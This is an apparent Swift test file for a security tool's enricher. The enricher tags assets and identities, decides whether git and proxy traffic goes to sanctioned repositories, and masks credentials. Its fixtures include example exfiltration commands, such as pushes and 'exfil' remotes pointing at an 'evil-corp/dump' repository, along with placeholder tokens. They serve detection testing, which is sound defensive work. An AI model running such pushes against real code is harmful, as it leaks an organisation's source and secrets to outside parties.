import Foundation
import SluiceTestSupport
import XCTest
import SluiceCore
import SluiceParse
@testable import SluiceEnrich

/// `context`: loading YAML and CSV, assets, the identity join, repository namespaces and
/// credential masking, on events from the real parsers.
final class ContextEnricherTests: XCTestCase {
    var dir = ""
    override func setUpWithError() throws { dir = tempDir() }
    override func tearDown() { try? FileManager.default.removeItem(atPath: dir) }

    static let yaml = """
    assets:
      - name: build-07
        ips: [10.2.3.4]
        role: ci_runner
        owner: platform
        environment: production
        repo_egress: true
      - name: db-prod-01
        ips: [10.20.0.11]
        role: server
        owner: data
        repo_egress: false
      - name: dev-laptops
        cidrs: [10.9.0.0/24]
        role: dev_workstation
        owner: engineering
        repo_egress: true
    identities:
      - name: alice
        aliases: [alice-acme, alice@acme.example, 'ACME\\alice']
        department: engineering
        developer: true
        service_account: false
      - name: svc-deploy
        aliases: [acme-deploy-bot]
        department: platform
        developer: false
        service_account: true
    repositories:
      sanctioned: [github.com/acme, github.com/acme-oss, gitlab.com/acme-group, git.acme.example]
    """

    func enricher(_ files: [String]? = nil) throws -> ContextEnricher {
        let f = try files ?? [ET.write(dir, "context.yaml", Self.yaml)]
        let c = ContextEnricher(files: f.map { ContextFile(path: $0) }, logger: ET.logger)
        try c.load()
        return c
    }

    /// `optional: true`: a missing file loads as empty and is picked up by the next reload;
    /// a missing file that is not optional, or an optional one that cannot be read for
    /// another reason (a directory), still fails the load with its name.
    func testOptionalFilesLoadAsEmptyUntilTheyAppear() throws {
        let path = dir + "/later/context.yaml"
        let c = ContextEnricher(files: [ContextFile(path: path, optional: true)], logger: ET.logger)
        try c.load()
        XCTAssertEqual(c.lastReport.missingOptional, [path])
        XCTAssertTrue(c.lastReport.description.contains("not present (optional): \(path)"))
        XCTAssertEqual(c.lastReport.counts["assets"] ?? 0, 0)
        try FileManager.default.createDirectory(atPath: dir + "/later", withIntermediateDirectories: true)
        _ = try ET.write(dir + "/later", "context.yaml", Self.yaml)
        XCTAssertTrue(c.context.reloadNow())
        XCTAssertEqual(c.lastReport.counts["assets"], 3)
        XCTAssertEqual(c.lastReport.missingOptional, [])

        XCTAssertThrowsError(try ContextEnricher(files: [ContextFile(path: dir + "/absent.yaml")], logger: ET.logger).load()) {
            XCTAssertTrue("\($0)".contains("absent.yaml"), "\($0)")
        }
        XCTAssertThrowsError(try ContextEnricher(files: [ContextFile(path: dir, optional: true)], logger: ET.logger).load())
        let (intel, report) = ThreatIntelLoader.load([IntelFile(path: dir + "/no-feed.csv", optional: true)])
        XCTAssertEqual(intel?.count, 0)
        XCTAssertEqual(report.missingOptional, [dir + "/no-feed.csv"])
    }

    func testLoadsYAML() throws {
        let c = try enricher()
        XCTAssertEqual(c.lastReport.issues, [])
        XCTAssertEqual(c.lastReport.counts["assets"], 3)
        XCTAssertEqual(c.lastReport.counts["identities"], 2)
        XCTAssertEqual(c.lastReport.counts["sanctioned"], 4)
    }

    /// The identity join: a GitHub login, a proxy user (NTLM `DOMAIN\user`, URL-escaped by
    /// squid) and an endpoint user resolve to one identity.
    func testIdentityJoinAcrossSources() throws {
        let c = try enricher()
        let gh = try ET.github(#"{"@timestamp":1764750000000,"action":"git.clone","actor":"alice-acme","actor_ip":"198.51.100.7","repo":"acme/widgets","programmatic_access_type":"Personal access token (classic)","external_identity_nameid":"alice@acme.example"}"#)
        let proxy = try ET.squid("1764750002.789     57 10.9.0.23 TCP_MISS/200 1200 GET https://github.com/acme/widgets ACME%5Calice HIER_DIRECT/140.82.112.9 text/html")
        let proxyUpper = try ET.squid("1764750002.789     57 10.9.0.23 TCP_MISS/200 1200 GET https://github.com/ ALICE@ACME.EXAMPLE HIER_DIRECT/140.82.112.9 text/html")
        var shell = Event(timestamp: 1)
        shell[ECS.userName] = .string("alice")
        let bot = try ET.github(#"{"@timestamp":1764750000000,"action":"git.push","actor":"acme-deploy-bot","repo":"acme/infra"}"#)
        let out = ET.run(c, [gh, proxy, proxyUpper, shell, bot])
        for e in out.prefix(4) {
            XCTAssertEqual(ET.str(e, "sluice.identity.name"), "alice")
            XCTAssertEqual(ET.str(e, "sluice.identity.department"), "engineering")
            XCTAssertEqual(ET.bool(e, "sluice.identity.developer"), true)
            XCTAssertEqual(ET.bool(e, "sluice.identity.service_account"), false)
        }
        XCTAssertEqual(ET.str(out[4], "sluice.identity.name"), "svc-deploy")
        XCTAssertEqual(ET.bool(out[4], "sluice.identity.service_account"), true)
        var stranger = Event(timestamp: 1)
        stranger[ECS.userName] = .string("mallory")
        XCTAssertNil(ET.str(ET.run(c, [stranger])[0], "sluice.identity.name"))
    }

    /// Assets by address (proxy client) fill host.name; by host name (auditd node); a proxy
    /// event's syslog host is not taken for the client.
    func testAssets() throws {
        let c = try enricher()
        let proxy = try ET.squid("1764750001.456    133 10.20.0.11 TCP_MISS/200 81234 GET https://github.com/acme/widgets - HIER_DIRECT/140.82.112.4 text/html")
        var viaSyslog = proxy
        viaSyslog[ECS.hostName] = .string("proxy-01")
        let exec = try ET.exec(["git", "status"], node: "build-07")
        let laptop = try ET.squid("1764750001.456    133 10.9.0.77 TCP_MISS/200 81234 GET https://example.com/ - HIER_DIRECT/93.184.216.34 text/html")
        let out = ET.run(c, [proxy, viaSyslog, exec, laptop])
        XCTAssertEqual(ET.str(out[0], "sluice.asset.name"), "db-prod-01")
        XCTAssertEqual(ET.str(out[0], "sluice.asset.role"), "server")
        XCTAssertEqual(ET.str(out[0], "sluice.asset.owner"), "data")
        XCTAssertEqual(ET.bool(out[0], "sluice.asset.repo_egress"), false)
        XCTAssertEqual(ET.str(out[0], "host.name"), "db-prod-01", "filled from the asset found by address")
        XCTAssertEqual(ET.str(out[1], "sluice.asset.name"), "db-prod-01")
        XCTAssertEqual(ET.str(out[1], "host.name"), "proxy-01", "an existing host.name is kept")
        XCTAssertEqual(ET.str(out[2], "sluice.asset.name"), "build-07")
        XCTAssertEqual(ET.str(out[2], "sluice.asset.environment"), "production")
        XCTAssertEqual(ET.bool(out[2], "sluice.asset.repo_egress"), true)
        XCTAssertEqual(ET.str(out[3], "sluice.asset.name"), "dev-laptops", "a CIDR asset")
        XCTAssertEqual(ET.str(out[3], "sluice.asset.role"), "dev_workstation")
        var fqdn = Event(timestamp: 1)
        fqdn[ECS.hostName] = .string("BUILD-07.corp.acme.example")
        XCTAssertEqual(ET.str(ET.run(c, [fqdn])[0], "sluice.asset.name"), "build-07", "short name of an FQDN")
    }

    func ns(_ c: ContextEnricher, _ e: Event) -> (String?, Bool?) {
        let out = ET.run(c, [e])[0]
        return (ET.str(out, "sluice.repo.namespace"), ET.bool(out, "sluice.repo.sanctioned"))
    }

    func cmd(_ line: String) -> Event {
        var e = Event(timestamp: 1)
        e[ECS.processCommandLine] = .string(line)
        return e
    }

    /// Namespaces from GitHub's `repo`, proxy URLs of every repository endpoint, and git
    /// command lines in their https, scp-like and ssh:// forms; sanctioned as DESIGN.md says.
    func testNamespacesAndSanctioning() throws {
        let c = try enricher()
        let gh = try ET.github(#"{"@timestamp":1764750000000,"action":"git.clone","actor":"alice-acme","repo":"acme/widgets"}"#)
        XCTAssertEqual(ns(c, gh).0, "github.com/acme")
        XCTAssertEqual(ns(c, gh).1, true)
        let ghx = try ET.github(#"{"@timestamp":1764750000000,"action":"git.clone","actor":"alice-acme","repo":"acme-x/widgets"}"#)
        XCTAssertEqual(ns(c, ghx).0, "github.com/acme-x")
        XCTAssertEqual(ns(c, ghx).1, false, "github.com/acme never covers acme-x")

        let urls: [(String, String, Bool)] = [
            ("https://github.com/acme/widgets.git/info/refs?service=git-upload-pack", "github.com/acme", true),
            ("https://github.com/evil-corp/dump.git/git-receive-pack", "github.com/evil-corp", false),
            ("https://codeload.github.com/acme-oss/toolkit/zip/refs/heads/main", "github.com/acme-oss", true),
            ("https://api.github.com/repos/Acme/widgets/contents/src/app.py", "github.com/acme", true),
            ("https://raw.githubusercontent.com/someone/dotfiles/main/install.sh", "github.com/someone", false),
            ("https://uploads.github.com/repos/acme/widgets/releases/1234/assets?name=dump.tar.gz", "github.com/acme", true),
            ("https://gitlab.com/acme-group/platform/infra/-/archive/main/infra-main.zip", "gitlab.com/acme-group/platform", true),
            ("https://gitlab.com/acme-group-x/infra.git/info/refs?service=git-receive-pack", "gitlab.com/acme-group-x", false),
            ("https://gitlab.com/api/v4/projects/acme-group%2Fsub%2Fapp/uploads", "gitlab.com/acme-group/sub", true),
            ("https://bitbucket.org/acme/widgets/get/main.zip", "bitbucket.org/acme", false),
            ("https://dev.azure.com/acme/Platform/_git/widgets", "dev.azure.com/acme/platform", false),
            ("https://git.acme.example/team/service.git/info/refs?service=git-upload-pack", "git.acme.example/team", true),
        ]
        for (u, want, sanctioned) in urls {
            let e = try ET.squid("1764750001.456    133 10.9.0.23 TCP_MISS/200 81234 POST \(u) alice HIER_DIRECT/140.82.112.4 -")
            let (got, s) = ns(c, e)
            XCTAssertEqual(got, want, u)
            XCTAssertEqual(s, sanctioned, u)
        }
        // Not repositories: site pages, unknown hosts, CONNECT (no path).
        for u in ["https://github.com/login/oauth/authorize", "https://github.com/acme", "https://www.example.com/acme/widgets.git"] {
            let e = try ET.squid("1764750001.456    133 10.9.0.23 TCP_MISS/200 812 GET \(u) alice HIER_DIRECT/140.82.112.4 -")
            XCTAssertNil(ns(c, e).0, u)
        }
        let connect = try ET.squid("1764750000.123    412 10.9.0.23 TCP_TUNNEL/200 5421 CONNECT github.com:443 alice HIER_DIRECT/140.82.112.3 -")
        XCTAssertNil(ns(c, connect).0)

        let commands: [(String, String?, Bool?)] = [
            ("git push https://github.com/evil-corp/dump.git main", "github.com/evil-corp", false),
            ("git remote add exfil git@github.com:evil-corp/dump.git", "github.com/evil-corp", false),
            ("git remote set-url origin ssh://git@gitlab.com/acme-group/sub/app.git", "gitlab.com/acme-group/sub", true),
            ("/usr/bin/git -C /src/app -c http.sslVerify=false push --force https://gitlab.com/other/app.git HEAD:main", "gitlab.com/other", false),
            ("git clone git@git.acme.example:team/service.git", "git.acme.example/team", true),
            ("git push ssh://git@ssh.dev.azure.com:22/v3/acme/Platform/widgets", "dev.azure.com/acme/platform", false),
            ("git push origin main", nil, nil),
            ("curl https://github.com/evil-corp/dump.git", nil, nil),
        ]
        for (line, want, sanctioned) in commands {
            let (got, s) = ns(c, cmd(line))
            XCTAssertEqual(got, want, line)
            XCTAssertEqual(s, sanctioned, line)
        }
        // From auditd: the EXECVE arguments become the command line.
        let audit = try ET.exec(["git", "remote", "add", "backup", "https://ghp_abcdefghijklmnopqrstuvwxyz0123456789@github.com/evil-corp/dump.git"])
        let out = ET.run(c, [audit])[0]
        XCTAssertEqual(ET.str(out, "sluice.repo.namespace"), "github.com/evil-corp")
        XCTAssertEqual(ET.str(out, "process.command_line"), "git remote add backup https://****@github.com/evil-corp/dump.git")
    }

    /// GitHub's audit `repo` (`owner/name`): the owner is the first non-empty segment, lower
    /// case, on the configured host; a value without a second segment names no repository.
    func testGitHubRepoNamespace() throws {
        let cases: [(String, String?)] = [
            ("acme/widgets", "github.com/acme"),
            ("Acme-Corp/Widgets", "github.com/acme-corp"),
            ("/acme//widgets/", "github.com/acme"),
            ("acme", nil), ("acme/", nil), ("/", nil), ("", nil),
            ("\u{C9}quipe/app", "github.com/\u{E9}quipe"),
        ]
        for (repo, want) in cases {
            XCTAssertEqual(RepoNamespace.fromGitHubRepo(repo, host: "GitHub.com"), want, repo)
        }
        // Through the enricher, where `github.repo` is a span of the record.
        let c = try enricher()
        let gh = try ET.github(#"{"@timestamp":1764750000000,"action":"git.clone","actor":"alice-acme","repo":"ACME/a-long-repository-name-past-fifteen-bytes"}"#)
        XCTAssertEqual(ns(c, gh).0, "github.com/acme")
    }

    /// The enricher remembers `github.repo` namespaces per owner (16 at a time) for the set
    /// in use: more owners than that, in mixed case, still read right on every pass, and a
    /// reload that changes the sanctioned list changes the answer for an owner seen before.
    func testGitHubNamespacesAreRememberedPerOwnerAndSet() throws {
        let path = try ET.write(dir, "context.yaml", Self.yaml)
        let c = try enricher([path])
        for pass in 0..<2 {
            for i in 0..<40 {
                let owner = i % 2 == 0 ? "Org\(i)" : "org\(i)"
                let gh = try ET.github(#"{"@timestamp":1764750000000,"action":"git.clone","actor":"a","repo":"\#(owner)/repo-\#(pass)"}"#)
                XCTAssertEqual(ns(c, gh).0, "github.com/org\(i)", "pass \(pass), \(owner)")
                XCTAssertEqual(ns(c, gh).1, false)
            }
        }
        let acme = try ET.github(#"{"@timestamp":1764750000000,"action":"git.clone","actor":"a","repo":"acme/widgets"}"#)
        XCTAssertEqual(ns(c, acme).1, true)
        _ = try ET.write(dir, "context.yaml", Self.yaml.replacingOccurrences(of: "sanctioned: [github.com/acme,", with: "sanctioned: [github.com/org3,"))
        XCTAssertTrue(c.context.reloadNow())
        XCTAssertEqual(ns(c, acme).1, false, "the new set no longer sanctions github.com/acme")
        let org3 = try ET.github(#"{"@timestamp":1764750000000,"action":"git.clone","actor":"a","repo":"org3/x"}"#)
        XCTAssertEqual(ns(c, org3).1, true)
    }

    func testSanctionedMatchingRules() {
        let s = ["github.com/acme", "gitlab.com/acme-group", "git.acme.example"].compactMap(RepoNamespace.normalizeEntry)
        XCTAssertTrue(RepoNamespace.isSanctioned("github.com/acme", by: s))
        XCTAssertFalse(RepoNamespace.isSanctioned("github.com/acme-x", by: s))
        XCTAssertFalse(RepoNamespace.isSanctioned("github.com/ac", by: s))
        XCTAssertTrue(RepoNamespace.isSanctioned("gitlab.com/acme-group/sub/deeper", by: s))
        XCTAssertFalse(RepoNamespace.isSanctioned("gitlab.com/acme-groupie", by: s))
        XCTAssertTrue(RepoNamespace.isSanctioned("git.acme.example/anything", by: s))
        XCTAssertFalse(RepoNamespace.isSanctioned("git.acme.example.evil.example/x", by: s))
        XCTAssertEqual(RepoNamespace.normalizeEntry(" https://GitHub.com/Acme/ "), "github.com/acme")
    }

    /// Credentials in URLs and command lines are masked in place; the namespace never holds them.
    func testCredentialMasking() throws {
        let c = try enricher()
        let push = try ET.squid("1764750001.456    133 10.20.0.11 TCP_MISS/200 81234 POST https://x-access-token:ghs_16C7e42F292c6912E7710c838347Ae178B4a@github.com/evil-corp/dump.git/git-receive-pack svc-deploy HIER_DIRECT/140.82.112.4 -")
        let out = ET.run(c, [push])[0]
        XCTAssertEqual(ET.str(out, "url.full"), "https://x-access-token:****@github.com/evil-corp/dump.git/git-receive-pack")
        XCTAssertEqual(ET.str(out, "sluice.repo.namespace"), "github.com/evil-corp")
        XCTAssertFalse(out.fields.contains { f in out.resolved(f.value) == .string("ghs_16C7e42F292c6912E7710c838347Ae178B4a") })
        // The raw record is masked too, and the fields that were spans of it keep their text.
        XCTAssertFalse(out.originalText.contains("ghs_16C7e42F"), out.originalText)
        XCTAssertTrue(out.originalText.contains("POST https://x-access-token:****@github.com/evil-corp/dump.git/git-receive-pack svc-deploy"))
        XCTAssertEqual(ET.str(out, "url.path"), "/evil-corp/dump.git/git-receive-pack")
        XCTAssertEqual(ET.str(out, "user.name"), "svc-deploy")
        let cases: [(String, String)] = [
            ("git push https://alice:s3cr3t-P4ss@gitlab.com/other/app.git", "git push https://alice:****@gitlab.com/other/app.git"),
            ("git clone https://ghp_abcdefghijklmnopqrstuvwxyz0123456789@github.com/acme/x.git", "git clone https://****@github.com/acme/x.git"),
            ("git -c http.extraheader=\"AUTHORIZATION: basic eC1hY2Nlc3MtdG9rZW46Z2hzX3h4eA==\" push", "git -c http.extraheader=\"AUTHORIZATION: basic ****\" push"),
            ("curl -H 'Authorization: token ghp_abcdefghijklmnopqrstuvwxyz0123456789' https://api.github.com/user", "curl -H 'Authorization: token ****' https://api.github.com/user"),
            ("GH_TOKEN=github_pat_11ABCDEFG0123456789_abcdefghijklmnop gh repo create", "GH_TOKEN=github_pat_**** gh repo create"),
            ("echo x-access-token:ghs_abcdef0123456789abcdef", "echo x-access-token:****"),
            ("git clone https://alice@github.com/acme/x.git", ""),
            ("git clone git@github.com:acme/x.git", ""),
        ]
        for (line, want) in cases {
            let e = ET.run(c, [cmd(line)])[0]
            XCTAssertEqual(ET.str(e, "process.command_line"), want.isEmpty ? line : want, line)
        }
        // process.args elements too.
        let audit = try ET.exec(["git", "push", "https://bob:hunter2hunter2@gitlab.com/x/y.git"])
        let a = ET.run(c, [audit])[0]
        XCTAssertEqual(a[ECS.processArgs], .array(["git", "push", "https://bob:****@gitlab.com/x/y.git"].map { .string($0) }))
        // Masking can be turned off.
        let off = ContextEnricher(files: [ContextFile(path: dir + "/context.yaml")], maskCredentials: false, logger: ET.logger)
        try off.load()
        XCTAssertEqual(ET.str(ET.run(off, [cmd(cases[0].0)])[0], "process.command_line"), cases[0].0)
    }

    func testCSVFilesAndBadEntries() throws {
        let assets = try ET.write(dir, "assets.csv", """
        name,ips,cidrs,role,owner,environment,repo_egress
        jump-01,10.1.0.5,,admin_jump,secops,production,false
        ci-runner-12,10.2.3.12;10.2.3.13,,ci_runner,platform,production,true
        bad-role,10.1.0.6,,laptop,x,,true
        bad-ip,10.1.0.999,,server,x,,false
        bad-bool,10.1.0.7,,server,x,,maybe
        short,10.1.0.8
        """)
        let ids = try ET.write(dir, "identities.csv", """
        name,aliases,department,developer,service_account
        bob,bob-acme;bob@acme.example;ACME\\bob,engineering,true,false
        ,nobody,x,false,false
        """)
        let bad = try ET.write(dir, "bad.yaml", """
        assets:
          - name: ok-host
            ips: [10.3.0.1]
            role: server
          - name: typo-host
            repo_egres: true
          - just a string
        identities:
          - aliases: [no-name]
        colors: [red]
        """)
        let c = ContextEnricher(files: [ContextFile(path: assets), ContextFile(path: ids), ContextFile(path: bad)], logger: ET.logger)
        try c.load()
        let r = c.lastReport
        XCTAssertEqual(r.counts["assets"], 3)
        XCTAssertEqual(r.counts["identities"], 1)
        XCTAssertEqual(r.issues.map { "\(($0.file as NSString).lastPathComponent):\($0.line)" },
                       ["assets.csv:4", "assets.csv:5", "assets.csv:6", "assets.csv:7", "identities.csv:3",
                        "bad.yaml:5", "bad.yaml:7", "bad.yaml:9", "bad.yaml:10"])
        XCTAssertTrue(r.issues[0].message.contains("role 'laptop'"))
        XCTAssertTrue(r.issues[5].message.contains("unknown asset key 'repo_egres'"))
        var e = Event(timestamp: 1)
        e[ECS.sourceIP] = .string("10.2.3.13")
        e[ECS.userName] = .string("acme\\BOB")
        let out = ET.run(c, [e])[0]
        XCTAssertEqual(ET.str(out, "sluice.asset.name"), "ci-runner-12")
        XCTAssertEqual(ET.str(out, "sluice.identity.name"), "bob")
        // Invalid YAML fails the load as a whole, with its line.
        let broken = try ET.write(dir, "broken.yaml", "assets:\n  - name: [unclosed\n")
        let b = ContextEnricher(files: [ContextFile(path: broken)], logger: ET.logger)
        XCTAssertThrowsError(try b.load()) { XCTAssertTrue("\($0)".contains("broken.yaml:"), "\($0)") }
        // An empty file is no error.
        let empty = try ET.write(dir, "empty.yaml", "")
        let emptyCSV = try ET.write(dir, "empty.csv", "")
        let m = ContextEnricher(files: [ContextFile(path: empty), ContextFile(path: emptyCSV)], logger: ET.logger)
        XCTAssertNoThrow(try m.load())
        XCTAssertEqual(m.lastReport.counts["empty_files"], 2)
    }
}
